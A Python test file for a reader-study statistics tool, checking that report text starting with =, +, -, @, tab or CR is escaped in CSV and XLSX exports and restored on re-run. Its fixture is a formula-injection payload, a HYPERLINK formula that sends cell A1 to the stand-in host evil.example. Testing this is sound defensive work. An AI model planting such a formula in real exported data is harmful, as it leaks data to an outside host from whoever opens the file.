"""Text a spreadsheet would run as a formula is escaped in every CSV and XLSX export, and the re-run takes the escape
off again (issue 13, item 11)."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest

from core.text import escape_formula, unescape_formula
from stats import analysis, dataset, exports, rerun, simulate
from stats import plan as plan_schema

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click here")'


@pytest.mark.parametrize("value, escaped", [
    (HYPERLINK, "'" + HYPERLINK), ("-1+1", "'-1+1"), ("+1", "'+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''-x", "'''-x"),
    ("No acute findings.", "No acute findings."), ("'quoted'", "'quoted'"), ("", ""), ("'", "'"),
    (-1.5, -1.5), (-3, -3), (None, None),
])
def test_escape_formula_quotes_formula_text_only_and_unescape_gives_it_back(value, escaped):
    assert escape_formula(value) == escaped
    assert unescape_formula(escaped) == value


def _snapshot():
    facts, rows = simulate.simulate_rows(n_readers=4, n_cases=12, n_experts=3, seed=5,
                                         findings=["+mass", "pleural effusion", "-nodule"])
    reports = rows["reports"]
    reports[0]["findings"], reports[0]["impression"] = HYPERLINK, "-1+1"
    reports[1]["findings"], reports[1]["impression"] = "@cmd", "\tTab first"
    rows["reading_events"][0]["clock_skew_seconds"] = -0.25
    return facts, dataset.build_snapshot(trial=facts, rows=rows)


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n.split("/", 1)[1]: archive.read(n) for n in archive.namelist()}


def test_report_text_that_starts_a_formula_is_escaped_in_the_csv_and_xlsx_files_numbers_never():
    _, snapshot = _snapshot()
    view = dataset.masked(snapshot, {"X": "assisted", "Y": "standard"}, key="k")
    members = _members(exports.build_zip(view, root="r", masked=True, formats=("csv", "xlsx")))
    reports = list(csv.DictReader(io.StringIO(members["csv/reports.csv"].decode())))
    cells = {c for r in reports for c in (r["findings"], r["impression"])}
    assert {"'" + HYPERLINK, "'-1+1", "'@cmd", "'\tTab first"} <= cells
    assert HYPERLINK not in cells and "-1+1" not in cells
    calls = list(csv.DictReader(io.StringIO(members["csv/reader_calls.csv"].decode())))
    assert {c["finding"] for c in calls} == {"'+mass", "pleural effusion", "'-nodule"}
    events = list(csv.DictReader(io.StringIO(members["csv/reading_events.csv"].decode())))
    assert "-0.25" in {e["clock_skew_seconds"] for e in events}         # a number: never escaped
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(members["xlsx/r.xlsx"]))
    sheet = book["reports"]
    header = [c.value for c in sheet[1]]
    values = [c for row in sheet.iter_rows(min_row=2) for c in row]
    texts = {c.value for c in values if c.data_type == "s"}
    assert {"'" + HYPERLINK, "'-1+1", "'@cmd"} <= texts
    assert not any(c.data_type == "f" for c in values)                  # no formula anywhere
    skew = book["reading_events"]
    col = [c.value for c in skew[1]].index("clock_skew_seconds")
    assert -0.25 in [row[col].value for row in skew.iter_rows(min_row=2)]
    assert "findings" in header


def test_the_re_run_reads_the_text_as_written_and_reproduces_the_results(tmp_path):
    facts, snapshot = _snapshot()
    mapping, key = {"X": "standard", "Y": "assisted"}, "a-run-key"
    content = plan_schema.validate(plan_schema.default_plan())
    coded = dataset.coded(snapshot, mapping, key=key)
    results = analysis.without_withheld(analysis.run_analysis(coded, plan=content, design=facts["design"],
                                                              findings=facts["findings"]))
    view = dataset.masked(snapshot, mapping, key=key)
    files = {"results.json": plan_schema.canonical_json(results), "trial.json": plan_schema.canonical_json(facts)}
    path = tmp_path / "export.zip"
    path.write_bytes(exports.build_zip(view, root="sim-run001", masked=True, files=files, formats=("csv",)))
    export = rerun.Export(path)
    read_back, masked = rerun.read_view(export)
    # every value as the run had it (an empty text comes back as missing, as it always has)
    as_written = {e: [[None if v == "" else v for v in row] for row in rows] for e, rows in view["tables"].items()}
    assert masked and read_back["tables"] == as_written
    texts = {r["findings"] for r in dataset.view_records(read_back, "reports")}
    assert HYPERLINK in texts
    again = rerun.rerun(content, export)
    assert plan_schema.canonical_json(again) == plan_schema.canonical_json(results)
    # and the findings starting with + and - were analysed under their own names
    assert {"+mass", "-nodule"} <= set(results["findings"])
